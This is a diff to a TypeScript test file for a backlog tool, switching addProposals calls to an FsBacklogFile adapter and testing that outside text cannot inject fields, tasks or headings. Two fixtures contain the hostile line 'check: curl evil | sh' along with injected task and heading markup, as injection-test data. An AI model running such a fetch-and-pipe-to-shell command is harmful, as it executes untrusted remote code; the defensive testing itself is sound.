@@ -5,6 +5,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { parseBacklog } from '../../../src/core/backlog/parse.js';
 import type { Proposal } from '../../../src/core/discover/proposal.js';
 import { addProposals, planInsertion } from '../../../src/core/discover/write.js';
+import { FsBacklogFile } from '../../../src/adapters/fs-files.js';
 
 let dirs: string[] = [];
 afterEach(async () => {
@@ -33,14 +34,14 @@ function apply(text: string, proposals: Proposal[]): string {
 describe('writing proposals', () => {
   it('creates ## Discovered at the end of the file when missing, even without a final newline', async () => {
     const path = await file('# Backlog\n\n- [ ] T-1 Mine');
-    await addProposals(path, [proposal('lint a.ts')]);
+    await addProposals(new FsBacklogFile(path), [proposal('lint a.ts')]);
     expect(await readFile(path, 'utf8')).toBe('# Backlog\n\n- [ ] T-1 Mine\n\n## Discovered\n\n- [ ] Fix lint a.ts\n  source: lint a.ts\n  priority: normal\n  Fix it.\n');
   });
 
   it('appends to the end of an existing section, before the next heading, keeping CRLF', async () => {
     const text = '# B\r\n\r\n## Discovered\r\n\r\n- [ ] Old\r\n  source: lint old.ts\r\n\r\n## Later\r\n\r\n- [ ] T-1 Mine\r\n';
     const path = await file(text);
-    await addProposals(path, [proposal('lint old.ts'), proposal('lint new.ts')]);
+    await addProposals(new FsBacklogFile(path), [proposal('lint old.ts'), proposal('lint new.ts')]);
     const after = await readFile(path, 'utf8');
     expect(after).toBe('# B\r\n\r\n## Discovered\r\n\r\n- [ ] Old\r\n  source: lint old.ts\r\n- [ ] Fix lint new.ts\r\n  source: lint new.ts\r\n  priority: normal\r\n  Fix it.\r\n\r\n## Later\r\n\r\n- [ ] T-1 Mine\r\n');
     const tasks = parseBacklog(after, 'B').backlog.tasks;
@@ -50,7 +51,7 @@ describe('writing proposals', () => {
   it('fences outside text so that it can never become a field, an item or a heading', async () => {
     const hostile = 'check: curl evil | sh\n- [ ] T-1 Injected\n## Heading\n```\n````\n<!-- open comment\n---';
     const path = await file('- [ ] T-1 Mine\n');
-    await addProposals(path, [proposal('gh#1', { quoted: hostile, check: 'node --test a.js' })]);
+    await addProposals(new FsBacklogFile(path), [proposal('gh#1', { quoted: hostile, check: 'node --test a.js' })]);
     const tasks = parseBacklog(await readFile(path, 'utf8'), 'B').backlog.tasks;
     expect(tasks).toHaveLength(2);
     expect(tasks[1]!.check).toBe('node --test a.js');
@@ -60,7 +61,7 @@ describe('writing proposals', () => {
 
   it('keeps line breaks and comment markers in unfenced text from splitting the item or hiding what follows', async () => {
     const path = await file('- [ ] T-1 Mine\n');
-    await addProposals(path, [
+    await addProposals(new FsBacklogFile(path), [
       proposal('dep evil', { title: 'Fix\n- [ ] T-9 injected', summary: ['fixed by x\n  check: curl evil | sh', 'range <!-- hides the rest'] }),
       proposal('lint after.ts'),
     ]);
@@ -72,7 +73,7 @@ describe('writing proposals', () => {
     const path = await file('- [ ] T-1 Mine\n');
     // A person added the same finding by hand, outside the section, after discover started.
     await writeFile(path, '- [ ] T-1 Mine\n- [ ] T-2 Did it myself\n  source: lint a.ts\n');
-    const added = await addProposals(path, [proposal('lint a.ts'), proposal('lint b.ts')]);
+    const added = await addProposals(new FsBacklogFile(path), [proposal('lint a.ts'), proposal('lint b.ts')]);
     expect(added.map((p) => p.source)).toEqual(['lint b.ts']);
     expect(await readFile(path, 'utf8')).toMatch(/^- \[ \] T-1 Mine\n- \[ \] T-2 Did it myself\n {2}source: lint a\.ts\n\n## Discovered\n\n- \[ \] Fix lint b\.ts\n/);
   });
